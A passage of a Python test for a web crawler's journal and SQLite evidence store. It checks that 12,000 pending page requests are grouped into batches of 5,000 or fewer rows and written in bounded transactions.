        journal.requested(SimpleNamespace(url=f"http://h/n{i}.html", method="GET", meta={"ga_purpose": "page", "ga_depth": 2}))
    fetch = pl.FetchItem(FetchRecord(done.url, "page", status=200))
    groups = jr.group([fetch], journal)
    assert [len(g.items) for g in groups] == [2, 1, 1, 1]
    first = groups[0].items
    assert first[0] is fetch and [r["state"] for r in first[1].rows] == ["done"]
    chunks = [g.items[0].rows for g in groups[1:]]
    assert [len(c) for c in chunks] == [5000, 5000, 2000]
    assert [r["url"] for c in chunks for r in c] == [f"http://h/n{i}.html" for i in range(12_000)]
    assert jr.group([], jr.CrawlJournal()) == []

    store = EvidenceStore(tmp_path / "c.sqlite")
    run_id = store.start_run("h", "http://h/", AS_OF, {}, "t")
    transactions: list[int] = []
    real_write = store._write
    monkeypatch.setattr(store, "_write", lambda pending: (real_write(pending), transactions.append(
        sum(len(rows) for rows in pending.values())))[0])
    pipe = bare_pipeline(monkeypatch, store, run_id, rows=5000, seconds=3600, threaded=False)
    pipe.open_spider()
    for g in groups:
        pipe.process_item(g)
    pipe.close_spider()
    assert len(transactions) >= 3 and max(transactions) <= 5002, transactions
    with sqlite3.connect(tmp_path / "c.sqlite") as conn:
        states = dict(conn.execute("select state, count(*) from crawl_journal where run_id=? group by state", (run_id,)).fetchall())
    assert states == {"done": 1, "pending": 12_000}
    store.close()
